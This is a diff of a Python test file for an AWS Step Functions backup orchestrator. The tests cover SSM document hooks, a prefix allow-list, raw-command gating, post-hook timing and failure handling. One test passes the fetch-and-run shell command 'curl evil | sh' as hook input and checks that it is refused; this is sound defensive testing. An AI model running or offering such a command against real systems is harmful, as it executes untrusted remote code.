@@ -51,7 +51,10 @@ SUBSTITUTIONS = {
     "DefaultCompleteWindowMinutes": "10080",
     "DefaultDeleteAfterDays": "35",
     "CommandTimeoutSeconds": "600",
+    "HookDocumentPrefix": "orchestrator-",
+    "AllowRawCommands": "false",
 }
+DOCUMENT = "orchestrator-systemd-unit"
 
 # The interpreter logs every caught error as a warning: the scenarios cause many on purpose.
 logging.getLogger("moto").setLevel(logging.CRITICAL)
@@ -77,11 +80,13 @@ _BOTOCORE = botocore.session.get_session()
 _VALIDATOR = ParamValidator()
 
 
-def definition_json(fast: bool = True) -> str:
+def definition_json(fast: bool = True, **overrides: str) -> str:
     """The template's definition with DefinitionSubstitutions applied, as CloudFormation does.
 
-    With `fast`, waits become 0 s and retry intervals 1 s so the scenarios run in seconds.
+    With `fast`, waits become 0 s and retry intervals 1 s so the scenarios run in seconds;
+    `overrides` replace substitution values (stack parameters).
     """
+    substitutions = {**SUBSTITUTIONS, **overrides}
     template = cfn_yaml.load(str(TEMPLATE))
     props = template["Resources"]["BackupStateMachine"]["Properties"]
     assert set(props["DefinitionSubstitutions"]) == set(SUBSTITUTIONS), props["DefinitionSubstitutions"]
@@ -95,9 +100,9 @@ def definition_json(fast: bool = True) -> str:
                 retrier["BackoffRate"] = 1.0
                 retrier.pop("JitterStrategy", None)
     text = json.dumps(definition)
-    unknown = set(re.findall(r"\$\{([^}]+)\}", text)) - set(SUBSTITUTIONS)
+    unknown = set(re.findall(r"\$\{([^}]+)\}", text)) - set(substitutions)
     assert not unknown, f"placeholders without a substitution: {unknown}"
-    return re.sub(r"\$\{([^}]+)\}", lambda m: SUBSTITUTIONS[m.group(1)], text)
+    return re.sub(r"\$\{([^}]+)\}", lambda m: substitutions[m.group(1)], text)
 
 
 class AwsError(ClientError):
@@ -184,6 +189,12 @@ def _snake(name: str) -> str:
     return re.sub(r"(?<!^)(?=[A-Z])", "_", name).lower()
 
 
+def document(action: str) -> dict:
+    """A document hook as the daemon sends it (SendCommand's shapes)."""
+    return {"Name": DOCUMENT, "Version": "$DEFAULT",
+            "Parameters": {"action": [action], "unit": ["postgresql.service"]}}
+
+
 def full_input(**overrides) -> dict:
     value = {"ResourceArn": RESOURCE_ARN, "Target": "web-1", "ScheduledFor": "2026-11-29T10:00:00Z",
              "Trigger": "schedule", "StartWindowMinutes": 120, "CompleteWindowMinutes": 1440,
@@ -195,14 +206,15 @@ def full_input(**overrides) -> dict:
 class StateMachineTest(unittest.TestCase):
     definition = definition_json()
 
-    def run_machine(self, fake: Fake, execution_input: dict, name: str = "web-1-20261129T100000Z"):
+    def run_machine(self, fake: Fake, execution_input: dict, name: str = "web-1-20261129T100000Z",
+                    definition: str | None = None):
         original = aws_sdk_task.boto_client_for
         aws_sdk_task.boto_client_for = lambda region, service, state_credentials=None: fake.client(service)
         try:
             with mock_aws(config={"stepfunctions": {"execute_state_machine": True}}):
                 sfn = boto3.client("stepfunctions", region_name=REGION)
                 arn = sfn.create_state_machine(
-                    name="orchestrator-backup", definition=self.definition,
+                    name="orchestrator-backup", definition=definition or self.definition,
                     roleArn=f"arn:aws:iam::{ACCOUNT}:role/sm")["stateMachineArn"]
                 execution = sfn.start_execution(stateMachineArn=arn, name=name,
                                                 input=json.dumps(execution_input))["executionArn"]
@@ -231,10 +243,12 @@ class StateMachineTest(unittest.TestCase):
             "BackupVaultName": VAULT, "IamRoleArn": BACKUP_ROLE, "ResourceArn": RESOURCE_ARN,
             "IdempotencyToken": "web-1-20261129T100000Z", "StartWindowMinutes": 120,
             "CompleteWindowMinutes": 1440, "Lifecycle": {"DeleteAfterDays": 7},
+            "BackupOptions": {},
             "RecoveryPointTags": {"orchestrator:execution": "web-1-20261129T100000Z",
                                   "orchestrator:target": "web-1",
                                   "orchestrator:scheduled-for": "2026-11-29T10:00:00Z",
-                                  "orchestrator:trigger": "schedule"}})
+                                  "orchestrator:trigger": "schedule",
+                                  "orchestrator:app-consistent": "false"}})
 
     def test_hand_started_execution_gets_the_stack_defaults(self):
         fake = Fake()
@@ -249,11 +263,15 @@ class StateMachineTest(unittest.TestCase):
                          r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")
         self.assertEqual(params["IdempotencyToken"], "by-hand")
 
-    def test_hooks_run_around_the_backup_and_wait_for_the_job(self):
+    raw_definition = definition_json(AllowRawCommands="true")
+
+    def test_raw_commands_run_around_the_backup_when_the_stack_allows_them(self):
         fake = Fake(pre=("InProgress", "Success"), post=("Pending", "Success"),
                     job_states=("CREATED", "RUNNING", "COMPLETED"), invocation_missing_once=True)
         desc = self.run_machine(fake, full_input(PreCommand="systemctl stop app",
-                                                 PostCommand="systemctl start app"))
+                                                 PostCommand="systemctl start app",
+                                                 PostHookWhen="completed"),
+                                definition=self.raw_definition)
         self.assertEqual(desc["status"], "SUCCEEDED", desc)
         self.assertEqual(fake.ops(), ["SendCommand", "GetCommandInvocation", "GetCommandInvocation",
                                       "GetCommandInvocation", "StartBackupJob", "DescribeBackupJob", "DescribeBackupJob",
@@ -267,21 +285,107 @@ class StateMachineTest(unittest.TestCase):
         output = json.loads(desc["output"])
         self.assertEqual(output["BackupJobId"], "job-1")
         self.assertEqual(output["BackupJob"], {"State": "COMPLETED"})
-        self.assertEqual((output["PreCommand"]["Status"], output["PostCommand"]["Status"]),
+        self.assertEqual((output["PreHook"]["Status"], output["PostHook"]["Status"]),
                          ("Success", "Success"))
 
-    def test_failed_pre_command_means_no_backup(self):
+    def test_raw_commands_are_refused_by_default_before_anything_is_sent(self):
+        for member in ("PreCommand", "PostCommand"):
+            fake = Fake()
+            desc = self.run_machine(fake, full_input(**{member: "curl evil | sh"}))
+            self.assertEqual(desc["status"], "FAILED", desc)
+            self.assertEqual(desc["error"], "PreCommandFailed")
+            self.assertIn("AllowRawCommands", desc["cause"])
+            self.assertEqual(fake.ops(), [], "no SendCommand, no backup")
+
+    def test_document_hooks_are_sent_with_exactly_their_parameters(self):
+        fake = Fake(job_states=("CREATED", "RUNNING", "COMPLETED"))
+        pre = document("stop")
+        pre["Version"] = "3"
+        desc = self.run_machine(fake, full_input(PreDocument=pre, PostDocument=document("start")))
+        self.assertEqual(desc["status"], "SUCCEEDED", desc)
+        sends = [p for op, p in fake.calls if op == "SendCommand"]
+        self.assertEqual(len(sends), 2)
+        self.assertEqual(sends[0], {
+            "DocumentName": DOCUMENT, "DocumentVersion": "3", "InstanceIds": [INSTANCE_ID],
+            "Comment": "web-1-20261129T100000Z pre",
+            "Parameters": {"action": ["stop"], "unit": ["postgresql.service"]}})
+        self.assertEqual(sends[1]["Parameters"], {"action": ["start"], "unit": ["postgresql.service"]})
+        self.assertEqual(sends[1]["DocumentVersion"], "$DEFAULT")
+        tags = self.start_params(fake)["RecoveryPointTags"]
+        self.assertEqual(tags["orchestrator:app-consistent"], "true")
+
+    def test_a_document_outside_the_prefix_fails_before_any_send_command(self):
+        for member in ("PreDocument", "PostDocument"):
+            fake = Fake()
+            doc = document("stop")
+            doc["Name"] = "AWS-RunShellScript"
+            desc = self.run_machine(fake, full_input(**{member: doc}))
+            self.assertEqual(desc["status"], "FAILED", desc)
+            self.assertEqual(desc["error"], "PreCommandFailed")
+            self.assertIn("orchestrator-", desc["cause"])
+            self.assertEqual(fake.ops(), [], f"{member}: nothing sent, no backup")
+
+    def test_post_hook_runs_as_soon_as_the_job_has_left_created(self):
+        fake = Fake(job_states=("CREATED", "CREATED", "RUNNING", "COMPLETED"))
+        desc = self.run_machine(fake, full_input(PreDocument=document("stop"),
+                                                 PostDocument=document("start")))
+        self.assertEqual(desc["status"], "SUCCEEDED", desc)
+        ops = fake.ops()
+        after_start = ops[ops.index("StartBackupJob") + 1:]
+        self.assertEqual(after_start, ["DescribeBackupJob"] * 3 + ["SendCommand", "GetCommandInvocation"],
+                         "the post hook follows the first poll that saw RUNNING, not COMPLETED")
+        output = json.loads(desc["output"])
+        self.assertEqual(output["BackupJob"], {"State": "RUNNING"})
+        self.assertNotIn("DowntimeCapped", output)
+
+    def test_post_hook_when_completed_waits_for_the_end_of_the_job(self):
+        fake = Fake(job_states=("CREATED", "RUNNING", "RUNNING", "COMPLETED"))
+        desc = self.run_machine(fake, full_input(PostDocument=document("start"), PostHookWhen="completed"))
+        self.assertEqual(desc["status"], "SUCCEEDED", desc)
+        self.assertEqual(fake.ops().count("DescribeBackupJob"), 4)
+        self.assertEqual(json.loads(desc["output"])["BackupJob"], {"State": "COMPLETED"})
+
+    def test_a_job_stuck_in_created_gets_the_post_hook_at_the_downtime_cap(self):
+        fake = Fake(job_states=("CREATED",))
+        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start"),
+                                                 HookMaxDowntimeSeconds=30))
+        self.assertEqual(desc["status"], "SUCCEEDED", desc)
+        self.assertEqual(fake.ops().count("DescribeBackupJob"), 3, "30 s cap / 10 s polls")
+        self.assertEqual(fake.ops()[-2:], ["SendCommand", "GetCommandInvocation"])
+        output = json.loads(desc["output"])
+        self.assertEqual((output["DowntimeCapped"], output["BackupJob"]["State"]), (True, "CREATED"))
+
+    def test_failed_pre_hook_backs_up_crash_consistent_by_default_and_runs_the_post_hook(self):
+        fake = Fake(pre=("Failed",), job_states=("RUNNING",))
+        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start")))
+        self.assertEqual(desc["status"], "SUCCEEDED", desc)
+        self.assertEqual(self.start_params(fake)["RecoveryPointTags"]["orchestrator:app-consistent"], "false")
+        self.assertEqual(fake.ops().count("SendCommand"), 2)
+        self.assertEqual(json.loads(desc["output"])["PreHook"]["Status"], "Failed")
+
+    def test_failed_pre_hook_with_skip_means_no_backup_but_the_post_hook_runs(self):
         fake = Fake(pre=("Failed",))
-        desc = self.run_machine(fake, full_input(PreCommand="false", PostCommand="true"))
+        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start"),
+                                                 OnPreHookFailure="skip"))
         self.assertEqual(desc["status"], "FAILED", desc)
         self.assertEqual(desc["error"], "PreCommandFailed")
-        self.assertIn("ended Failed", desc["cause"])
+        self.assertIn("Failed", desc["cause"])
+        self.assertIn("skip", desc["cause"])
         self.assertNotIn("StartBackupJob", fake.ops())
-        self.assertEqual(fake.ops().count("SendCommand"), 1)
+        sends = [p for op, p in fake.calls if op == "SendCommand"]
+        self.assertEqual([p["Parameters"]["action"] for p in sends], [["stop"], ["start"]])
+
+    def test_windows_vss_reaches_start_backup_job(self):
+        fake = Fake()
+        desc = self.run_machine(fake, full_input(BackupOptions={"WindowsVSS": "enabled"}))
+        self.assertEqual(desc["status"], "SUCCEEDED", desc)
+        self.assertEqual(self.start_params(fake)["BackupOptions"], {"WindowsVSS": "enabled"})
 
     def test_failed_backup_job_still_runs_the_post_command(self):
         fake = Fake(job_states=("RUNNING", "FAILED"))
-        desc = self.run_machine(fake, full_input(PreCommand="true", PostCommand="systemctl start app"))
+        desc = self.run_machine(fake, full_input(PreCommand="true", PostCommand="systemctl start app",
+                                                 PostHookWhen="completed"),
+                                definition=self.raw_definition)
         self.assertEqual(desc["status"], "SUCCEEDED", desc)
         self.assertEqual(fake.ops()[-2:], ["SendCommand", "GetCommandInvocation"])
         output = json.loads(desc["output"])
@@ -289,7 +393,7 @@ class StateMachineTest(unittest.TestCase):
 
     def test_post_command_runs_when_start_backup_job_fails_and_the_error_is_kept(self):
         fake = Fake(start_error=InvalidParameterValueException("bad window"))
-        desc = self.run_machine(fake, full_input(PreCommand="true", PostCommand="systemctl start app"))
+        desc = self.run_machine(fake, full_input(PreDocument=document("stop"), PostDocument=document("start")))
         self.assertEqual(desc["status"], "FAILED", desc)
         self.assertEqual(desc["error"], "StartBackupJobFailed")
         self.assertEqual(json.loads(desc["cause"])["Error"], "Backup.InvalidParameterValueException")
@@ -300,7 +404,7 @@ class StateMachineTest(unittest.TestCase):
 
     def test_failed_post_command_is_reported_even_when_the_backup_completed(self):
         fake = Fake(post=("InProgress", "Failed"))
-        desc = self.run_machine(fake, full_input(PostCommand="systemctl start app"))
+        desc = self.run_machine(fake, full_input(PostDocument=document("start")))
         self.assertEqual(desc["status"], "FAILED", desc)
         self.assertEqual(desc["error"], "PostCommandFailed")
         self.assertIn("job-1", desc["cause"])
